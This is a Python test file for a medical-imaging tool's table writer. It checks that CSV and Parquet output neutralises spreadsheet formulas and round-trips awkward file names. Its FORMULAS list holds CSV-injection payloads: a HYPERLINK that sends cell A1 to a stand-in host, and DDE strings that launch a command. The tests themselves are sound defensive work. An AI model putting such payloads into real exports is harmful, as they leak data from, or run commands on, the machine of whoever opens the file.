"""One writer and one reader of tables: nothing is lost, and a spreadsheet computes nothing."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from duoscan.manifest.records import ImageRecord, Manifest
from duoscan.manifest.table import read_manifest, write_manifest
from duoscan.predictions import Prediction, read_predictions, write_predictions
from duoscan.reasons import Reason, ReasonCode
from duoscan.rows import csv_rows, csv_text, storable, stored
from duoscan.terms import Decision, Modality

FORMULAS = [
    '=HYPERLINK("http://elsewhere.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
    "'=1+1",
]
# What a file may be called: bytes without NUL and slash, as Python names them (PEP 383).
NAMES = st.binary().map(lambda name: os.fsdecode(name.replace(b"\0", b"").replace(b"/", b"")))


TEXTS = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])) | NAMES


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2)))
@example([[text, "x"] for text in FORMULAS])
@example([["\uef80\uefff", "\udcff"], ["''=", "a;=1"], ["a\rb", "a\r\nb"], ["", "'"], ["-5", "'-5"]])
def test_every_text_comes_back(rows: list[list[str]]) -> None:
    text = csv_text(["a", "b"], rows).encode().decode()
    assert list(csv_rows(text, ",")) == [["a", "b"], *rows]


@given(NAMES)
def test_every_name_of_a_file_fits_into_a_column_of_text(name: str) -> None:
    assert stored(storable(name).encode().decode()) == name


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_as_a_formula(text: str) -> None:
    for cell in list(csv.reader(io.StringIO(csv_text(["a"], [[text]]), newline="")))[1]:
        assert cell.startswith("'")


def test_numbers_stay_numbers() -> None:
    text = csv_text(["a", "b", "c", "d"], [[-0.1, -7, None, "-1.5e-07"]])
    assert text == "a,b,c,d\n-0.1,-7,,-1.5e-07\n"


@pytest.mark.parametrize("name", ["table.csv", "table.parquet"])
@pytest.mark.parametrize("text", [*FORMULAS, "\udcff\udcfe.png", "M\udcfcller/1.png", "a\nb.png", "\uef80.png"])
def test_predictions_give_back_what_files_are_called(tmp_path: Path, name: str, text: str) -> None:
    row = Prediction(text, "p", Modality.CXR, None, Decision.UNREADABLE, reason=Reason(ReasonCode.UNREADABLE, "=1+1"))
    write_predictions([row], tmp_path / name)
    (found,) = read_predictions(tmp_path / name)
    assert (found.path, found.reason) == (text, row.reason)


@pytest.mark.parametrize("name", ["manifest.csv", "manifest.parquet"])
@pytest.mark.parametrize("text", [*FORMULAS, "a\nb.png", "a\rb.png", "\uef80.png"])
def test_manifests_give_back_every_text(tmp_path: Path, name: str, text: str) -> None:
    text = text.strip()  # a record holds no outer spaces
    record = ImageRecord(path=text, modality=Modality.CXR, patient_id=f"@{text}", source="-5+5")
    write_manifest(Manifest(tmp_path, (record,)), tmp_path / name)
    assert read_manifest(tmp_path / name, check_files=False).records == (record,)


def test_a_nul_does_not_cost_the_table() -> None:
    assert list(csv_rows(csv_text(["a"], [["p\0q"]]), ",")) == [["a"], ["p\u2400q"]]
